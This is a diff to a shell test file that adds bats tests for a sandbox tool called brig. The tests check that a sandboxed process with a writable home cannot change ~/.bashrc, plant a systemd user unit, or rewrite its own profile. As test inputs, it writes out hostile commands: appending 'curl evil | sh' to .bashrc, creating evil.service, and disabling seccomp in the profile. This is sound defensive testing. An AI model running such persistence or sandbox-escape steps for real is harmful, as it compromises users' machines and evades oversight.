@@ -140,3 +140,39 @@ git_config_unchanged() {
 	[ "$(last)" = 1 ]
 	git_config_unchanged
 }
+
+# A profile that makes the whole home writable (pwrap-style): its start-up files stay read-only.
+home_writable() {
+	profile wh "[project]
+dir = \"~/projects/okb\"
+[network]
+mode = \"none\"
+[sandbox]
+writable = [\"~\"]"
+	BEFORE=$(outside_state)
+}
+
+@test "[shell-rc writable-home] with a writable home, ~/.bashrc still cannot be changed" {
+	home_writable
+	run "$BRIG" run -q --direct wh -- sh -c 'echo "curl evil | sh" >>"$HOME/.bashrc" || echo refused; echo x >"$HOME/scratch" && echo home-writable'
+	[[ "$output" == *refused* ]]
+	[[ "$output" == *home-writable* ]]
+	[ "$(cat "$HOME/.bashrc")" = bashrc ]
+	rm -f "$HOME/scratch"
+}
+
+@test "[autostart writable-home] with a writable home, a systemd user unit cannot be planted" {
+	home_writable
+	run "$BRIG" run -q --direct wh -- sh -c 'mkdir -p "$HOME/.config/systemd/user" && echo "[Service]" >"$HOME/.config/systemd/user/evil.service" || echo refused'
+	[[ "$output" == *refused* ]]
+	[ ! -e "$HOME/.config/systemd" ]
+}
+
+@test "[own-policy writable-home] with a writable home, the cell cannot rewrite its own profile" {
+	home_writable
+	local before
+	before=$(cat "$XDG_CONFIG_HOME/brig/wh/project.toml")
+	run "$BRIG" run -q --direct wh -- sh -c 'printf "[seccomp]\nenabled = false\n" >>"$HOME/.config/brig/wh/project.toml" || echo refused'
+	[[ "$output" == *refused* ]] || [ "$status" -ne 0 ]
+	[ "$(cat "$XDG_CONFIG_HOME/brig/wh/project.toml")" = "$before" ]
+}
